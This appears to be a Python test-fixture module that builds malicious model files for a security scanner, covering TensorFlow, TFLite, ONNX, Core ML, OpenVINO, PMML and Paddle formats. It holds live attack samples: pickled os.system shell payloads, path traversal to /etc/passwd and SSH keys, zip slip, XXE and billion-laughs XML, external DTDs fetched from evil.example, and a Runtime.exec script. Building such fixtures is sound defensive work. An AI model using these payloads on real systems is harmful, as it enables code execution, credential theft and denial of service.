"""Attacks in graph formats: TensorFlow, TFLite, ONNX, Core ML, OpenVINO, PMML, Paddle, ExecuTorch."""

# ruff: noqa: E501  # a table: one technique stays on one line where it can

from __future__ import annotations

from tests.corpus.opcodes import call, program
from tests.corpus.payload import SHELL
from tests.corpus.technique import table
from tests.corpus.wire import Table, flatbuffer, message
from tests.corpus.zips import folder

PICKLE = program(call("os:system", SHELL))


def node(op: str, name: str = "n") -> bytes:
    """A TensorFlow NodeDef."""
    return message((1, name), (2, op))


def graph(*nodes: bytes, functions: tuple[bytes, ...] = ()) -> bytes:
    """A GraphDef; functions by their nodes."""
    library = message(*((1, message((1, message((1, "f"))), (3, each))) for each in functions))
    head = [(1, node("Placeholder", "x")), *((1, each) for each in nodes), (1, node("Identity", "y"))]
    return message(*head, (4, message((1, 1882))), *([(2, library)] if functions else []))


def saved_model(*graphs: bytes) -> bytes:
    """A SavedModel with one MetaGraphDef for each graph."""
    meta = message((4, "serve"), (5, "2.15.0"))
    return message((1, 1), *((2, message((1, meta), (2, each))) for each in graphs))


_OPS = ["ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "PyFuncStateless", "MatchingFiles", "SaveV2", "RestoreV2",
        "PrintV2", "WholeFileReaderV2", "TextLineDataset", "MergeV2Checkpoints",
        "DatasetToTFRecord"]  # fmt: skip
_HARMFUL = [each for each in _OPS if each not in ("PrintV2", "SaveV2", "RestoreV2", "MergeV2Checkpoints")]
table("tensorflow", "saved_model.pb", "", {
    **{f"op-{each.lower()}": saved_model(graph(node(each))) for each in _HARMFUL},
    "in-function-library": saved_model(graph(functions=(node("WriteFile"),))),
    "in-second-graph": saved_model(graph(), graph(node("ReadFile"))),
    "pyfunc-in-function": saved_model(graph(functions=(node("Identity"), node("PyFunc")))),
    "innocent-node-name": saved_model(graph(node("WriteFile", "dense/kernel/read"))),
    "fields-reordered": saved_model(message((4, message((1, 1882))), (1, message((2, "WriteFile"), (1, "a"))))),
    "op-given-twice": saved_model(graph(message((1, "a"), (2, "Identity"), (2, "WriteFile")))),
    "custom-op": saved_model(graph(node("EvilCompanyRunCommand"))),
})  # fmt: skip
table("tensorflow", "frozen.pb", "", {
    "frozen-writefile": graph(node("WriteFile")), "frozen-pyfunc": graph(node("PyFunc")),
    "frozen-in-function": graph(functions=(node("ReadFile"),)),
})  # fmt: skip
table("tensorflow", "keras_metadata.pb", "", {"metadata-lambda": message((1, message((2, 1), (4, "_tf_keras_layer"), (5,
    '{"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__tuple__", "items": ["4wEAAAA=", null,'
    ' null]}, "function_type": "lambda"}}'))))})  # fmt: skip


def tflite(*codes: Table) -> bytes:
    """A TFLite model with these operator codes."""
    inputs = Table([None, None, None, None, "main"])
    return flatbuffer(Table([3, list(codes), [inputs], "model"]), b"TFL3")


table("tflite", "model.tflite", "", {
    "custom-op": tflite(Table([32, "EvilRunCommand", 1, 32])),
    "flex-writefile": tflite(Table([32, "FlexWriteFile", 1, 32])),
    "flex-readfile": tflite(Table([32, "FlexReadFile", 1, 32])),
    "flex-pyfunc": tflite(Table([0, None, 1, 0]), Table([32, "FlexEagerPyFunc", 1, 32])),
    "appended-zip-pickle": tflite(Table([0, None, 1, 0])) + folder({"labels.pkl": PICKLE}),
    "appended-zip-slip": tflite(Table([0, None, 1, 0])) + folder({"../../evil.txt": b"x"}),
})  # fmt: skip


def tensor(location: str | None = None, name: str = "w", **entries: str) -> bytes:
    """An ONNX tensor, stored outside where there is a location."""
    if location is None:
        return message((1, 1), (2, 1), (8, name), (9, b"\0\0\0\0"))
    keys = {"location": location, **entries}
    return message(
        (1, 1), (2, 1), (8, name), *((13, message((1, k), (2, v))) for k, v in keys.items()), (14, 1)
    )


def op(kind: str, *attributes: bytes, domain: str = "") -> bytes:
    """An ONNX node."""
    return message(
        (1, "x"), (2, "y"), (4, kind), *((5, each) for each in attributes), *([(7, domain)] if domain else [])
    )


def attribute(name: str, number: int, held: bytes, kind: int) -> bytes:
    """An ONNX attribute."""
    return message((1, name), (number, held), (20, kind))


def onnx(*fields: tuple[int, object], more: tuple[tuple[int, object], ...] = ()) -> bytes:
    """An ONNX model of these graph fields."""
    base = ((1, op("Relu")), (2, "g"), (11, message((1, "x"))), (12, message((1, "y"))))
    return message(
        (1, 8), (2, "exporter"), (7, message(*base, *fields)), (8, message((1, ""), (2, 17))), *more
    )


_PATHS = {"parent": "../../etc/passwd", "absolute": "/etc/passwd", "inner-parent": "data/../../../secret",
          "backslash": "..\\..\\secret", "drive": "C:\\secret", "url": "file:///etc/passwd", "nul": "w\0/../../x",
          "home": "~/.ssh/id_rsa"}  # fmt: skip
_INNER = message((1, op("Relu")), (2, "then"), (5, tensor("../../etc/passwd")))
table("onnx", "model.onnx", "", {
    **{f"external-{key}": onnx((5, tensor(path))) for key, path in _PATHS.items() if key not in ("home",)},
    "external-in-subgraph": onnx((1, op("If", attribute("then_branch", 6, _INNER, 5)))),
    "external-in-subgraph-list": onnx((1, op("Custom", attribute("graphs", 11, _INNER, 10)))),
    "external-in-attribute": onnx((1, op("Constant", attribute("value", 5, tensor("/etc/passwd"), 4)))),
    "external-in-attribute-list": onnx((1, op("Constant", attribute("values", 10, tensor("/etc/passwd"), 9)))),
    "external-in-function": onnx(more=((25, message((1, "F"), (7, op("Constant", attribute(
        "value", 5, tensor("../secret"), 4))), (10, "custom"))),)),
    "external-in-sparse": onnx((15, message((1, tensor("../secret")), (2, tensor())))),
    "external-in-training": onnx(more=((20, message((2, message((2, "t"), (5, tensor("../secret")))))),)),
    "external-negative-offset": onnx((5, tensor("w.bin", offset="-1", length="4"))),
    "external-huge-length": onnx((5, tensor("w.bin", offset="0", length="99999999999999999999"))),
    "external-two-locations": onnx((5, message((1, 1), (2, 1), (8, "w"), (13, message((1, "location"), (2, "w.bin"))),
                                               (13, message((1, "location"), (2, "../../x"))), (14, 1)))),
    "pyop": onnx((1, op("PyOp", domain="com.microsoft.extensions"))),
    "custom-pyop-domain": onnx((1, op("PythonOp", domain="com.microsoft"))),
    "dims-lie": onnx((5, message((1, 1 << 40), (2, 1), (8, "w"), (9, b"\0\0\0\0")))),
})  # fmt: skip

_LAYER = message((1, "custom"), (2, "x"), (3, "y"), (500, message((10, "EvilLayer"))))
table("coreml", "model.mlmodel", "", {
    "custom-layer": message((1, 4), (2, message((100, message((1, "d"))))), (500, message((1, _LAYER)))),
    "custom-model": message((1, 4), (2, message((100, message((1, "d"))))), (555, message((10, "EvilModel")))),
})  # fmt: skip

_XXE = '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
_LAUGHS = '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>\n"  # fmt: skip
_NET = '<net name="m" version="11"><layers><layer id="0" name="x" type="{}" version="{}">{}</layer></layers></net>'
_PMML = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="{}"/>{}</PMML>'
table("xml", "model.xml", "", {
    "openvino-xxe": (_XXE + _NET.format("Parameter", "opset1", "&x;")).encode(),
    "openvino-laughs": (_LAUGHS + _NET.format("Parameter", "opset1", "&a9;")).encode(),
    "openvino-extension": _NET.format("EvilOp", "extension", '<data library="../evil.so"/>').encode(),
    "openvino-parameter-entity": ('<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/d"> %x;]>'
                                  + _NET.format("Parameter", "opset1", "")).encode(),
    "openvino-external-dtd": ('<?xml version="1.0"?>\n<!DOCTYPE net SYSTEM "http://evil.example/net.dtd">'
                              + _NET.format("Parameter", "opset1", "")).encode(),
    "openvino-utf-16-xxe": (_XXE + _NET.format("Parameter", "opset1", "&x;")).replace("1.0", "1.0").encode("utf-16"),
})  # fmt: skip
table("xml", "model.pmml", "", {
    "pmml-xxe": (_XXE + _PMML.format("&x;", "")).encode(),
    "pmml-extension-script": _PMML.format("x", '<Extension name="script" value="java.lang.Runtime.getRuntime().exec(1)"/>'
                                          ).encode(),
    "pmml-external-dtd": ('<!DOCTYPE PMML SYSTEM "http://evil.example/p.dtd">' + _PMML.format("x", "")).encode(),
})  # fmt: skip
table("xml", "model.pmml", "", {"pmml-laughs": (_LAUGHS + _PMML.format("x", "&a9;")).encode()})

table("paddle", "model.pdparams", "pickle", {"pickled-params": PICKLE})
table("paddle", "model.pdopt", "pickle", {"pickled-optimizer": PICKLE})
table("paddle", "model.pdmodel", "", {
    "py-func-op": message((1, message((1, 0), (2, 0), (4, message((3, "py_func"))))), (4, message((1, 0)))),
})  # fmt: skip
